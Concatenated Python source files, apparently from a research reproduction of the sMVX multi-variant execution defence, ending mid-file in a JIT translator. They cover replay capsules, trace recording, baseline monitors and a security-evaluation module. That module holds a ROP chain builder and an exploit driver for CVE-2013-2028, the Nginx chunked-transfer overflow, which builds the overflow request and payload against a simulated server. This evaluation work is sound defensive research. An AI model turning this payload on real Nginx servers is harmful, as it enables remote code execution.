    def from_dict(raw: Dict) -> "DivergenceCapsule":
        version = raw.get("version")
        if version != CAPSULE_VERSION:
            raise ValueError(
                f"unsupported capsule version {version!r} "
                f"(this build reads version {CAPSULE_VERSION})")
        return DivergenceCapsule(version, raw.get("report", {}),
                                 raw.get("window", []),
                                 raw.get("trace", {}))

    def save(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as fh:
            json.dump(self.to_dict(), fh, sort_keys=True)

    @staticmethod
    def load(path: str) -> "DivergenceCapsule":
        with open(path, "r", encoding="utf-8") as fh:
            return DivergenceCapsule.from_dict(json.load(fh))

    # -- replay --------------------------------------------------------------

    def replay(self) -> CapsuleReplayResult:
        """Re-execute the embedded trace and check the alarm comes back
        with the same kind at the same guest PC."""
        from repro.trace.record import Trace
        from repro.trace.replay import replay_trace

        result = replay_trace(Trace.from_dict(self.trace))
        want_kind = self.report.get("kind")
        want_pc = self.report.get("guest_pc")
        matched = None
        for alarm in result.replayed_footer.get("alarms", []):
            if (alarm.get("kind") == want_kind
                    and alarm.get("guest_pc") == want_pc):
                matched = alarm
                break
        mismatches = list(result.mismatches)
        if matched is None:
            mismatches.insert(0, (
                f"no replayed alarm matches {want_kind} at "
                f"pc={want_pc:#x}; replay raised "
                f"{[a.get('kind') for a in result.replayed_footer.get('alarms', [])]}"))
        return CapsuleReplayResult(reproduced=matched is not None,
                                   replay_ok=result.ok,
                                   matched_alarm=matched,
                                   mismatches=mismatches)


SIM_CAPSULE_VERSION = 1


@dataclass
class SimReplayResult:
    """Verdict of replaying a scenario capsule."""

    reproduced: bool                 # same failure signature
    bit_identical: bool              # same combined digest
    klass: str = ""
    digest: str = ""
    mismatches: List[str] = field(default_factory=list)

    @property
    def ok(self) -> bool:
        return self.reproduced and self.bit_identical

    def summary(self) -> str:
        if self.ok:
            return (f"capsule reproduced: {self.klass} "
                    f"(digest {self.digest[:16]}, bit-identical)")
        lines = ["capsule NOT reproduced" if not self.reproduced
                 else "capsule reproduced but digests diverged"]
        lines += [f"  - {m}" for m in self.mismatches[:20]]
        return "\n".join(lines)


@dataclass
class ScenarioCapsule:
    """A minimal failing sim scenario, self-contained and replayable.

    ``scenario`` is the shrunk scenario dict (including any explicit
    fault plan and armed mutation); ``original`` is the scenario the
    swarm first caught; ``signature`` is the failure signature both must
    produce; ``digest``/``digests`` pin the shrunk run bit-for-bit;
    ``shrink_steps`` logs every reduction the shrinker tried."""

    version: int = SIM_CAPSULE_VERSION
    scenario: Dict = field(default_factory=dict)
    original: Dict = field(default_factory=dict)
    signature: Dict = field(default_factory=dict)
    digest: str = ""
    digests: Dict = field(default_factory=dict)
    shrink_steps: List[Dict] = field(default_factory=list)
    meta: Dict = field(default_factory=dict)

    # -- serialization -------------------------------------------------------

    def to_dict(self) -> Dict:
        return {"version": self.version, "kind": "sim-scenario",
                "scenario": self.scenario, "original": self.original,
                "signature": self.signature, "digest": self.digest,
                "digests": self.digests,
                "shrink_steps": self.shrink_steps, "meta": self.meta}

    @staticmethod
    def from_dict(raw: Dict) -> "ScenarioCapsule":
        version = raw.get("version")
        if version != SIM_CAPSULE_VERSION:
            raise ValueError(
                f"unsupported sim capsule version {version!r} "
                f"(this build reads version {SIM_CAPSULE_VERSION})")
        return ScenarioCapsule(
            version=version, scenario=raw.get("scenario", {}),
            original=raw.get("original", {}),
            signature=raw.get("signature", {}),
            digest=raw.get("digest", ""), digests=raw.get("digests", {}),
            shrink_steps=raw.get("shrink_steps", []),
            meta=raw.get("meta", {}))

    def save(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as fh:
            json.dump(self.to_dict(), fh, sort_keys=True)

    @staticmethod
    def load(path: str) -> "ScenarioCapsule":
        with open(path, "r", encoding="utf-8") as fh:
            return ScenarioCapsule.from_dict(json.load(fh))

    # -- replay --------------------------------------------------------------

    def replay(self) -> SimReplayResult:
        """Re-derive the shrunk scenario from its seeds and compare the
        failure signature and the combined digest bit-for-bit."""
        from repro.sim.runner import run_scenario
        from repro.sim.scenario import Scenario
        from repro.sim.shrink import signature_of

        outcome = run_scenario(Scenario.from_dict(dict(self.scenario)))
        signature = signature_of(outcome)
        mismatches: List[str] = []
        if signature != self.signature:
            mismatches.append(
                f"signature: capsule {self.signature!r} "
                f"!= replay {signature!r}")
        if outcome.digest != self.digest:
            for key in sorted(set(outcome.digests)
                              | set(self.digests)):
                want = self.digests.get(key)
                got = outcome.digests.get(key)
                if want != got:
                    mismatches.append(
                        f"digest.{key}: capsule {want!r} != replay "
                        f"{got!r}")
        return SimReplayResult(
            reproduced=signature == self.signature,
            bit_identical=outcome.digest == self.digest,
            klass=outcome.klass, digest=outcome.digest,
            mismatches=mismatches)
