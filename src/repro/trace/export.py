"""Export trace events as Chrome trace-event JSON (chrome://tracing,
Perfetto).

Each :class:`~repro.trace.events.TraceEvent` becomes an instant event
(``"ph": "i"``) on a per-kind "thread", timestamped in microseconds of
virtual time, so the flight recorder's ring can be scrubbed visually:
libc interceptions, rendezvous, syscalls, and the alarm all line up on
one shared virtual-time axis.
"""

from __future__ import annotations

import json
from typing import Dict, Iterable, List, Union

from repro.trace.events import EventKind, TraceEvent

#: stable per-kind lane ids so the viewer groups rows deterministically.
_KIND_LANE = {kind: index for index, kind in enumerate(EventKind)}


def _as_dict(event: Union[TraceEvent, Dict]) -> Dict:
    return event.to_dict() if isinstance(event, TraceEvent) else event


def to_chrome_trace(events: Iterable[Union[TraceEvent, Dict]],
                    process_name: str = "repro") -> Dict:
    """Convert events (TraceEvent objects or their dicts) to the Chrome
    trace-event container format."""
    rows: List[Dict] = []
    lanes_used: Dict[str, int] = {}
    for raw in events:
        event = _as_dict(raw)
        kind = event["kind"]
        lane = _KIND_LANE.get(EventKind(kind), len(_KIND_LANE))
        lanes_used[kind] = lane
        name = event.get("name", "") or kind
        rows.append({
            "ph": "i",                       # instant event
            "s": "t",                        # thread-scoped
            "name": f"{kind}:{name}",
            "cat": kind,
            "ts": event["t_ns"] / 1000.0,    # Chrome wants microseconds
            "pid": 1,
            "tid": lane,
            "args": {"seq": event["seq"], **event.get("data", {})},
        })
    meta = [{"ph": "M", "pid": 1, "name": "process_name",
             "args": {"name": process_name}}]
    meta += [{"ph": "M", "pid": 1, "tid": lane, "name": "thread_name",
              "args": {"name": kind}}
             for kind, lane in sorted(lanes_used.items(),
                                      key=lambda item: item[1])]
    return {"traceEvents": meta + rows, "displayTimeUnit": "ns"}


def write_chrome_trace(path: str,
                       events: Iterable[Union[TraceEvent, Dict]],
                       process_name: str = "repro") -> int:
    """Write the Chrome trace JSON to ``path``; returns the event count
    (excluding metadata rows)."""
    doc = to_chrome_trace(events, process_name)
    with open(path, "w", encoding="utf-8") as fh:
        json.dump(doc, fh)
    return sum(1 for row in doc["traceEvents"] if row["ph"] != "M")
