"""Typed trace events, the bounded ring recorder, and a metrics registry.

Every observable moment of a guest run maps to one :class:`TraceEvent`.
The recorder is a *ring*: it keeps the most recent ``capacity`` events and
counts what it dropped, so always-on tracing has bounded memory no matter
how long the run — the shape a production flight recorder needs.  The
last-N window is exactly what a divergence capsule snapshots.
"""

from __future__ import annotations

import enum
from collections import deque
from dataclasses import dataclass, field
from typing import Deque, Dict, Iterable, List, Optional


class EventKind(enum.Enum):
    """What happened.  Values are the wire names used in trace files."""

    INSTRUCTION = "instruction"      # one retired guest instruction
    SYSCALL = "syscall"              # kernel entry (name + result)
    LIBC = "libc"                    # an intercepted/observed libc call
    RENDEZVOUS = "rendezvous"        # MVX lockstep announce (leader/follower)
    PAGE_FAULT = "page_fault"        # a MachineFault surfacing to the host
    PKRU_FLIP = "pkru_flip"          # WRPKRU retired (monitor gate edges)
    TASK_SWITCH = "task_switch"      # scheduler decision: task spawn/exit
    ALARM = "alarm"                  # divergence alarm raised
    CLOCK_READ = "clock_read"        # guest observed the virtual clock
    URANDOM = "urandom"              # /dev/urandom bytes entered the guest
    NET_INGRESS = "net_ingress"      # payload delivered toward a socket
    NET_ACCEPT = "net_accept"        # a listener handed out a connection
    FAULT = "fault"                  # the fault plane injected a fault
    WIRE = "wire"                    # a cluster wire frame sent/delivered
    STIMULUS = "stimulus"            # host-boundary input (the record script)
    METRIC = "metric"                # control-plane metrics sample
    MARK = "mark"                    # free-form annotation


@dataclass(frozen=True)
class TraceEvent:
    """One timestamped, sequence-numbered event."""

    seq: int
    kind: EventKind
    t_ns: float                      # virtual monotonic time
    name: str = ""
    data: Dict = field(default_factory=dict)

    def to_dict(self) -> Dict:
        out = {"seq": self.seq, "kind": self.kind.value, "t_ns": self.t_ns}
        if self.name:
            out["name"] = self.name
        if self.data:
            out["data"] = self.data
        return out

    @staticmethod
    def from_dict(raw: Dict) -> "TraceEvent":
        return TraceEvent(raw["seq"], EventKind(raw["kind"]), raw["t_ns"],
                          raw.get("name", ""), raw.get("data", {}))


class MetricsRegistry:
    """Monotonic counters keyed by name (the recorder's /metrics page)."""

    def __init__(self) -> None:
        self._counters: Dict[str, int] = {}

    def inc(self, name: str, amount: int = 1) -> None:
        self._counters[name] = self._counters.get(name, 0) + amount

    def get(self, name: str) -> int:
        return self._counters.get(name, 0)

    def as_dict(self) -> Dict[str, int]:
        return dict(self._counters)

    def clear(self) -> None:
        self._counters.clear()


class RingRecorder:
    """Bounded in-memory event store with per-kind counters.

    ``emit`` is the single hot entry point; with ``enabled`` False it is
    one attribute test, so an attached-but-disabled recorder costs next
    to nothing (``benchmarks/test_trace_overhead.py`` holds it to a ≤1%
    virtual-cycle delta — in practice 0, since emitting charges no
    virtual time).
    """

    def __init__(self, capacity: int = 4096,
                 metrics: Optional[MetricsRegistry] = None):
        if capacity <= 0:
            raise ValueError("ring capacity must be positive")
        self.capacity = capacity
        self.enabled = True
        self.metrics = metrics or MetricsRegistry()
        self._ring: Deque[TraceEvent] = deque(maxlen=capacity)
        self._seq = 0
        self.emitted = 0
        self.dropped = 0

    # -- recording -----------------------------------------------------------

    def emit(self, kind: EventKind, t_ns: float, name: str = "",
             **data) -> Optional[TraceEvent]:
        if not self.enabled:
            return None
        self._seq += 1
        event = TraceEvent(self._seq, kind, t_ns, name, data)
        if len(self._ring) == self.capacity:
            self.dropped += 1
        self._ring.append(event)
        self.emitted += 1
        self.metrics.inc(f"events.{kind.value}")
        return event

    # -- reading -------------------------------------------------------------

    def events(self, kind: Optional[EventKind] = None) -> List[TraceEvent]:
        if kind is None:
            return list(self._ring)
        return [e for e in self._ring if e.kind is kind]

    def tail(self, n: int) -> List[TraceEvent]:
        """The most recent ``n`` events (the capsule window)."""
        if n <= 0:
            return []
        return list(self._ring)[-n:]

    def count(self, kind: EventKind) -> int:
        return self.metrics.get(f"events.{kind.value}")

    def counts_by_kind(self) -> Dict[str, int]:
        prefix = "events."
        return {name[len(prefix):]: value
                for name, value in self.metrics.as_dict().items()
                if name.startswith(prefix)}

    def to_dicts(self, events: Optional[Iterable[TraceEvent]] = None
                 ) -> List[Dict]:
        return [e.to_dict() for e in (events if events is not None
                                      else self._ring)]

    def clear(self) -> None:
        self._ring.clear()
        self.dropped = 0
