"""repro.trace — the flight recorder.

Structured tracing, deterministic record/replay, and divergence capsules
for the sMVX reproduction.  The simulated machine makes the rr/DiOS
observation (nondeterminism enters at the OS boundary) directly
actionable: the virtual clock, ``/dev/urandom``, socket ingress, and
task-creation order are the *only* nondeterminism sources, and all of
them are owned by ``repro.kernel``.  Recording that boundary yields a
trace whose replay re-executes a guest run bit-for-bit; a divergence
alarm additionally snapshots a self-contained, replayable "capsule".

Modules:

* :mod:`repro.trace.events`  — typed trace events, bounded ring recorder,
  metrics registry;
* :mod:`repro.trace.record`  — record mode (kernel-boundary taps →
  versioned trace file);
* :mod:`repro.trace.replay`  — replay mode (consume recorded
  nondeterminism, assert bit-identical re-execution);
* :mod:`repro.trace.capsule` — divergence capsules snapshotted at
  ``AlarmLog.raise_alarm``;
* :mod:`repro.trace.export`  — Chrome trace-event JSON export;
* :mod:`repro.trace.cli`     — ``python -m repro.trace.cli``.
"""

from repro.trace.events import (
    EventKind,
    MetricsRegistry,
    RingRecorder,
    TraceEvent,
)
from repro.trace.record import (
    TRACE_VERSION,
    Recorder,
    Trace,
    drive_littled_workload,
    record_littled,
    record_minx,
)
from repro.trace.replay import ReplayResult, replay_trace
from repro.trace.capsule import DivergenceCapsule
from repro.trace.export import to_chrome_trace, write_chrome_trace

__all__ = [
    "EventKind",
    "MetricsRegistry",
    "RingRecorder",
    "TraceEvent",
    "TRACE_VERSION",
    "Recorder",
    "Trace",
    "drive_littled_workload",
    "record_littled",
    "record_minx",
    "ReplayResult",
    "replay_trace",
    "DivergenceCapsule",
    "to_chrome_trace",
    "write_chrome_trace",
]
