"""Whole-program MVX baseline monitors.

These model the *cost structure* of the systems the paper compares
against (they do not need their own divergence machinery — the paper's
Figure 7 compares performance, and §4.1's CPU/RSS comparisons use the
"two full variants" resource model):

* every intercepted **syscall** pays the monitor's interception cost on
  the wall clock (both variants wait at the rendezvous);
* the follower variant re-executes all application work on another core:
  CPU doubles, wall time does not (mirroring how sMVX's follower is
  accounted);
* memory doubles (two full processes), measured via
  :func:`spawn_duplicate`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional, Set

from repro.machine.costs import CostModel, CycleCounter
from repro.process.process import GuestProcess

#: syscalls ReMon's policy treats as security-sensitive (routed to the
#: slow cross-process monitor); the rest take the in-process fast path.
REMON_SENSITIVE_SYSCALLS: Set[str] = {
    "open", "listen_on", "accept4", "mkdir", "unlink", "fork", "clone",
    "exit",
}


@dataclass
class BaselineStats:
    intercepted: int = 0
    fast_path: int = 0
    slow_path: int = 0
    overhead_charged_ns: float = 0.0


class MvxBaseline:
    """Base class: attach to a process's kernel, charge per syscall."""

    name = "baseline"

    def __init__(self, process: GuestProcess,
                 costs: Optional[CostModel] = None):
        self.process = process
        self.costs = costs or process.costs
        self.stats = BaselineStats()
        #: the follower's CPU burn (off the wall clock, another core)
        self.follower_counter = CycleCounter()
        #: every process this monitor intercepts (pre-forked servers add
        #: their workers via :meth:`also_monitor`); list, not set, so
        #: listener installation order is deterministic.
        self._procs = [process]
        self._attached = False
        self._baseline_total_ns = 0.0

    # -- interception ------------------------------------------------------------

    def also_monitor(self, process: GuestProcess) -> "MvxBaseline":
        """Extend interception to another process of the same kernel —
        a pre-forked worker.  One monitor then models N leader/follower
        pairs: each worker's syscalls pay the interception cost on that
        worker's counter and its compute is mirrored to the follower
        pool (whole-program MVX replicates every process)."""
        if process not in self._procs:
            self._procs.append(process)
            if self._attached:
                process.counter.add_listener(self._mirror_work)
        return self

    def attach(self) -> "MvxBaseline":
        if not self._attached:
            self.process.kernel.syscall_hooks.append(self._on_syscall)
            for proc in self._procs:
                proc.counter.add_listener(self._mirror_work)
            self._attached = True
        return self

    def detach(self) -> None:
        if self._attached:
            self.process.kernel.syscall_hooks.remove(self._on_syscall)
            for proc in self._procs:
                proc.counter.remove_listener(self._mirror_work)
            self._attached = False

    def __enter__(self) -> "MvxBaseline":
        return self.attach()

    def __exit__(self, *exc) -> None:
        self.detach()

    def _mirror_work(self, ns: float, category: str) -> None:
        # whole-program replication: the follower re-executes everything
        # the leader does, on its own core
        self.follower_counter.total_ns += ns

    def _on_syscall(self, proc, name: str) -> None:
        if proc not in self._procs:
            return
        self.stats.intercepted += 1
        cost = self._interception_cost(name)
        proc.counter.charge(cost, f"mvx-{self.name}")
        self.stats.overhead_charged_ns += cost

    def _interception_cost(self, name: str) -> float:  # pragma: no cover
        raise NotImplementedError

    # -- resource accounting ---------------------------------------------------------

    def total_cpu_ns(self) -> float:
        """Leader + follower CPU (the 200% of §4.1), summed over every
        monitored process."""
        return sum(proc.counter.total_ns for proc in self._procs) \
            + self.follower_counter.total_ns


class ReMonMvx(MvxBaseline):
    """ReMon: in-process fast path, cross-process path for sensitive
    syscalls (the paper's performance yardstick)."""

    name = "remon"

    def __init__(self, process: GuestProcess,
                 costs: Optional[CostModel] = None,
                 sensitive: Optional[Set[str]] = None):
        super().__init__(process, costs)
        self.sensitive = (REMON_SENSITIVE_SYSCALLS if sensitive is None
                          else sensitive)

    def _interception_cost(self, name: str) -> float:
        if name in self.sensitive:
            self.stats.slow_path += 1
            return self.costs.remon_crossprocess_ns
        self.stats.fast_path += 1
        return self.costs.remon_inprocess_ns


class PtraceMvx(MvxBaseline):
    """Orchestra-style: every interception costs four context switches
    (two user/kernel transitions each for the target and the monitor)."""

    name = "ptrace"

    def _interception_cost(self, name: str) -> float:
        self.stats.slow_path += 1
        return self.costs.ptrace_intercept_ns


class RemoteMvx(MvxBaseline):
    """Whole-program *distributed* MVX (dMVX/DMON without selection):
    every syscall is shipped to a remote monitor, so each interception
    pays frame serialization, and the sensitive subset additionally
    blocks for a verdict round trip at the link latency.  This is the
    cost structure ``repro.cluster`` escapes by replicating only
    selected regions."""

    name = "remote"

    def __init__(self, process: GuestProcess,
                 costs: Optional[CostModel] = None,
                 latency_ns: float = 100_000,
                 sensitive: Optional[Set[str]] = None,
                 frame_bytes: int = 160):
        super().__init__(process, costs)
        self.latency_ns = latency_ns
        self.sensitive = (REMON_SENSITIVE_SYSCALLS if sensitive is None
                          else sensitive)
        self.frame_bytes = frame_bytes

    def _interception_cost(self, name: str) -> float:
        wire = self.costs.wire_frame_ns \
            + self.frame_bytes * self.costs.wire_byte_ns
        if name in self.sensitive:
            self.stats.slow_path += 1
            return wire + 2 * self.latency_ns
        self.stats.fast_path += 1
        return wire


def spawn_duplicate(server_factory, kernel, **kwargs):
    """Create a second vanilla instance — the traditional-MVX memory model
    ('we replicated the vanilla applications to simulate the memory usage
    of a traditional MVX system', §4.1)."""
    return server_factory(kernel, **kwargs)
