"""Whole-program MVX baselines the paper compares against.

* :class:`ReMonMvx` — the state-of-the-art hybrid monitor (Volckaert et
  al., USENIX ATC'16): cheap in-process interception for most *system
  calls*, a cross-process path for security-sensitive ones.  Because it
  hooks syscalls rather than libc calls, its per-interception frequency is
  lower than sMVX's by exactly the libc:syscall ratio of Figure 7.
* :class:`PtraceMvx` — an Orchestra-style cross-process monitor paying
  four context switches per interception (paper §2.1 footnote 1).
* :class:`RemoteMvx` — whole-program distributed MVX (dMVX without
  selection): every syscall crosses the wire, sensitive ones block for
  a remote verdict — the yardstick for ``repro.cluster``'s selective
  distributed mode.
* :func:`spawn_duplicate` — "two copies of the vanilla application", the
  traditional-MVX memory model the paper's RSS comparison uses.

All are *whole-program* replication: both variants execute everything, so
CPU is ~2x and memory is ~2x, with wall time inflated only by the
interception/synchronization costs (variants run on separate cores).
"""

from repro.mvx.baselines import (
    MvxBaseline,
    PtraceMvx,
    ReMonMvx,
    RemoteMvx,
    spawn_duplicate,
)

__all__ = [
    "MvxBaseline",
    "PtraceMvx",
    "ReMonMvx",
    "RemoteMvx",
    "spawn_duplicate",
]
