"""Attack tooling for the §4.2 security evaluation: the ROP chain builder
(Ropper/ROPGadget analogue) and the CVE-2013-2028 exploit driver."""

from repro.attacks.rop import RopChain, build_mkdir_chain
from repro.attacks.cve_2013_2028 import (
    Cve20132028Exploit,
    run_exploit,
)

__all__ = [
    "Cve20132028Exploit",
    "RopChain",
    "build_mkdir_chain",
    "run_exploit",
]
