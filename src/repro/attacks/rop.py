"""ROP chain construction (paper §4.2).

The paper's chain: three gadgets and three values — load a pointer to a
string found in the application into ``%rdi``, pop an integer into
``%rsi``, and jump to the ``mkdir`` libc call's location, creating a
directory as the observable effect.  This module harvests the gadgets from
the target's executable region (offline binary analysis, which the threat
model grants the attacker) and lays out the stack words.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field
from typing import List, Optional

from repro.analysis.gadgets import (
    find_gadgets,
    find_pop_reg_ret,
)
from repro.errors import ReproError
from repro.loader.loader import LoadedImage
from repro.process.process import GuestProcess


class GadgetNotFound(ReproError):
    pass


@dataclass
class RopChain:
    """The stack words the overflow plants above the return address."""

    words: List[int]
    description: str = ""

    def pack(self) -> bytes:
        return b"".join(struct.pack("<Q", w & (2 ** 64 - 1))
                        for w in self.words)

    @property
    def gadget_count(self) -> int:
        return len([w for w in self.words if w]) // 2 + 1


def build_mkdir_chain(process: GuestProcess, target: LoadedImage,
                      mode: int = 0o755,
                      resume_address: Optional[int] = None) -> RopChain:
    """Build the paper's 3-gadget chain against a loaded target.

    ``resume_address`` is what execution falls into after ``mkdir``
    returns: ``None`` lands on address 0 (the exploited process crashes
    after the payload runs — the common, noisy outcome).
    """
    region = (target.base, target.base + target.image.load_size)
    gadgets = find_gadgets(process.space, max_len=2, region=region)
    pop_rdi = find_pop_reg_ret(gadgets, "rdi")
    pop_rsi = find_pop_reg_ret(gadgets, "rsi")
    if pop_rdi is None or pop_rsi is None:
        raise GadgetNotFound(
            "no pop rdi/pop rsi gadgets in the target's text")

    string_addr = target.symbol_address("upstream_tmp_path")
    mkdir_entry = target.symbol_address("mkdir@plt")

    words = [
        pop_rdi.address,     # gadget 1: pop %rdi ; ret
        string_addr,         # value 1: "a pointer to a string found in
                             #           the application"
        pop_rsi.address,     # gadget 2: pop %rsi ; ret
        mode,                # value 2: mkdir mode
        mkdir_entry,         # gadget 3: jump to the mkdir libc call
        resume_address or 0,
    ]
    return RopChain(
        words,
        description=(f"pop rdi@{pop_rdi.address:#x} <- str@{string_addr:#x};"
                     f" pop rsi@{pop_rsi.address:#x} <- {mode:#o};"
                     f" mkdir@plt {mkdir_entry:#x}"))
