"""CVE-2013-2028 reproduction (paper §4.2).

The Nginx 1.3.9/1.4.0 chunked-transfer stack overflow:

1. a request carries ``Transfer-Encoding: chunked`` and a chunk size of
   ``0xFFFFFFFFFFFFFFF0`` — parsed as unsigned, *stored* signed, i.e. -16;
2. the discard-body path computes ``min(content_length_n, 4096)`` with a
   **signed** comparison, so -16 wins;
3. the value is handed to ``recv`` where the ``size_t`` cast turns it into
   a huge count: ``recv`` writes every available body byte into the 4 KiB
   stack buffer — 4 KiB of filler, then the ROP chain lands on the saved
   return address.

Against vanilla minx the chain runs: ``mkdir("/tmp/minx_upstream")``
succeeds and the worker crashes afterwards.  Under sMVX the overflow is
faithfully replicated into the follower (the ``recv`` emulation copies the
leader's buffer, §3.3), whose return address now holds *leader-space*
gadget addresses — unmapped in the follower's view — so the follower
faults, the monitor raises a divergence alarm, and ``mkdir`` never runs.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.apps.minx import DISCARD_BUFFER_SIZE, MinxServer
from repro.attacks.rop import RopChain, build_mkdir_chain
from repro.errors import MachineFault, MvxDivergence

#: 2**64 - 16: a valid hex chunk size that is -16 as a signed 64-bit int.
EVIL_CHUNK_SIZE = "fffffffffffffff0"

VICTIM_DIRECTORY = "/tmp/minx_upstream"


@dataclass
class ExploitOutcome:
    directory_created: bool
    server_crashed: bool
    divergence_detected: bool
    alarm_count: int
    detail: str = ""

    @property
    def attack_succeeded(self) -> bool:
        return self.directory_created

    @property
    def attack_detected_and_blocked(self) -> bool:
        return self.divergence_detected and not self.directory_created


class Cve20132028Exploit:
    """Builds and fires the exploit against a running :class:`MinxServer`."""

    def __init__(self, server: MinxServer):
        self.server = server
        self.chain: Optional[RopChain] = None

    def build_payloads(self) -> "tuple[bytes, bytes]":
        """Returns (request_head, overflow_body).

        The head establishes the chunked request and the evil chunk size;
        the body is what ``recv`` pours into the 4 KiB stack buffer.
        """
        self.chain = build_mkdir_chain(self.server.process,
                                       self.server.loaded)
        head = (b"POST /index.html HTTP/1.1\r\n"
                b"Host: victim\r\n"
                b"Transfer-Encoding: chunked\r\n"
                b"\r\n" +
                EVIL_CHUNK_SIZE.encode() + b"\r\n")
        body = b"A" * DISCARD_BUFFER_SIZE + self.chain.pack()
        return head, body

    def fire(self) -> ExploitOutcome:
        """Send the exploit and observe the outcome."""
        kernel = self.server.kernel
        head, body = self.build_payloads()
        sock = kernel.network.connect(self.server.port)
        # the head arrives first; the body lands while the server is
        # blocked inside the discard-body recv (client-side pacing)
        sock.send(head)
        # paced well past request-head processing (including sMVX variant
        # creation when the whole event loop is the region) so the body
        # arrives while the server sits in the discard-body recv
        sock.send(body, extra_delay_ns=5_000_000)

        crashed = False
        divergence = False
        detail = ""
        try:
            self.server.pump()
        except MvxDivergence as alarm:
            divergence = True
            detail = str(alarm.report)
        except MachineFault as fault:
            crashed = True
            detail = f"{type(fault).__name__}: {fault}"
        return ExploitOutcome(
            directory_created=kernel.vfs.is_dir(VICTIM_DIRECTORY),
            server_crashed=crashed,
            divergence_detected=divergence,
            alarm_count=len(self.server.alarms.alarms),
            detail=detail,
        )


def run_exploit(server: MinxServer) -> ExploitOutcome:
    return Cve20132028Exploit(server).fire()
