"""The JIT tier: superblock translation of hot guest code to Python closures.

Third interpreter tier above the precise path (``CPU.step``) and the fast
path (``CPU._run_fast``).  When the fast path takes a backward direct
branch often enough (:attr:`JitEngine.threshold`), the engine recovers a
bounded CFG region around the branch target with
:func:`repro.analysis.cfg.recover_hot_region`, translates the region into
one specialized Python function (guest registers held in locals, memory
through per-site inline caches backed by the same checked MMU paths), and
installs it in the page's :attr:`~repro.machine.memory.Page.jit_cache`.

Architectural contract (precise ≡ fast ≡ jit, proven by the differential
suite):

* **Virtual time / retired instructions** are charged in one batch per
  closure invocation through an out-cell the closure fills even when it
  faults mid-block; because ``instruction_ns`` is an exactly-representable
  integer cost the batched sums are bit-identical to per-instruction
  charging, and the charge lands before any host callback runs.
* **Exits**: every ``SYSCALL``/``HLCALL``/``WRPKRU`` exits *before* the
  instruction (the interpreter re-executes it precisely); ``CALL``/
  ``RET``/``CALL_R``/``JMP_R``/``JMP_M`` and region-escaping branches
  execute their side effects and exit after.  Exit after exit, execution
  chains into the next translation without returning to the interpreter.
* **Faults** restore the exact precise-path state: translated memory ops
  flush every pending register/flag update first, record a *site* id, and
  the closure's ``except`` handler writes back locals, sets ``rip`` to
  the faulting instruction's ``rip_next`` (the precise path advances rip
  before the handler body runs) and reports the charged count through the
  out-cell before re-raising.
* **Invalidation**: translations live on the page
  (``Page.jit_cache``) and are dropped by exactly the hooks that flush
  the decoded-instruction cache — MMU writes, mprotect/pkey_mprotect/
  munmap, ``invalidate_decode()``.  A translated store that invalidates
  *this* translation exits right after the store.  Inline store caches
  only memoize pages with no decode/jit cache, so cached stores can never
  leave stale translations behind.
* **Demotion**: closures are only entered from the fast path (never when
  a trace hook, memory observer, counter listener or ``force_slow_path``
  is active) and the chain loop re-checks ``CPU._precision_forced()``
  between hops, so an observer attached by a syscall handler mid-run
  demotes execution to the precise path at the next block boundary.

Deliberate non-observable shortcut: the inline fast paths do not bump
``AddressSpace.access_count`` (a diagnostic counter, never architectural
state); ``CPU.stats()`` documents the tier split instead.

The per-invocation inline caches are sound because nothing can change a
mapping, permission, protection key, PKRU, or attach an observer *while a
closure runs*: all of those happen in host callbacks, and every host
callback is an exit.  Each cache entry is established by one real checked
access (``read_word``/``write_word``/``read``/``write``) in the same
invocation.
"""

from __future__ import annotations

import struct
from typing import Dict, List, Optional, Set, Tuple

from repro.machine.cpu import CpuExit
from repro.machine.isa import INSTR_SIZE, Op
from repro.machine.registers import GP_REGISTERS

_M = (1 << 64) - 1
_WORD = struct.Struct("<Q")

#: backward-branch executions at one target before translation kicks in.
HOT_THRESHOLD = 20
#: cap on blocks per superblock region (keeps closures compact).
MAX_BLOCKS = 12
#: bound on the promotion-counter table (cleared wholesale when full —
#: deterministic, since it only ever delays promotion).
MAX_HOT_ENTRIES = 4096


def _matf(fa: int, fb: int) -> int:
    """Materialize compare flags from the recorded operands — the exact
    semantics of ``RegisterFile.set_compare_flags``."""
    diff = (fa - fb) & _M
    if diff == 0:
        flags = 1
    elif diff >> 63:
        flags = 2
    else:
        flags = 0
    if fa < fb:
        flags |= 4
    return flags


class Translation:
    """One compiled superblock: the closure plus its validity cell."""

    __slots__ = ("fn", "valid", "covers", "entry", "blocks", "insns",
                 "engine", "source")

    def __init__(self, fn, valid, covers, entry, blocks, insns, engine,
                 source):
        self.fn = fn
        self.valid = valid          # one-element list shared with the closure
        self.covers = covers        # every instruction address in the region
        self.entry = entry
        self.blocks = blocks
        self.insns = insns
        self.engine = engine
        self.source = source

    def invalidate(self) -> None:
        if self.valid[0]:
            self.valid[0] = False
            self.engine.invalidations += 1


class JitFailure(Exception):
    """Raised by the translator when a region is not worth (or not safe
    to) translate; the entry is blacklisted."""


# --------------------------------------------------------------------------
# expression model for the translator

class _Expr:
    """A pending (not yet emitted) right-hand side.

    ``text`` is a self-contained Python expression over *concrete* closure
    locals.  ``masked`` means the value is known to lie in [0, 2**64).
    ``mod8``/``bits`` carry static alignment/width facts used to elide
    alignment guards and masking.
    """

    __slots__ = ("text", "refs", "masked", "mod8", "bits")

    def __init__(self, text: str, refs: frozenset, masked: bool,
                 mod8: Optional[int] = None, bits: Optional[int] = None):
        self.text = text
        self.refs = refs
        self.masked = masked
        self.mod8 = mod8
        self.bits = bits


def _const(value: int) -> _Expr:
    value &= _M
    return _Expr(repr(value), frozenset(), True,
                 mod8=value % 8, bits=value.bit_length())


_NOREFS = frozenset()


class _Flags:
    """Lazily materialized compare flags: the two masked operands."""

    __slots__ = ("a", "arefs", "b", "brefs", "emitted")

    def __init__(self, a: str, arefs: frozenset, b: str, brefs: frozenset):
        self.a = a
        self.arefs = arefs
        self.b = b
        self.brefs = brefs
        self.emitted = False

    @property
    def refs(self) -> frozenset:
        return self.arefs | self.brefs


_EXIT_BEFORE = frozenset({Op.SYSCALL, Op.HLCALL, Op.WRPKRU})
_COND = {
    Op.JE: ("({a} == {b})", "flags & 1"),
    Op.JNE: ("({a} != {b})", "not flags & 1"),
    Op.JL: ("((({a} - {b}) & M) >> 63)", "flags & 2"),
    Op.JGE: ("(not (({a} - {b}) & M) >> 63)", "not flags & 2"),
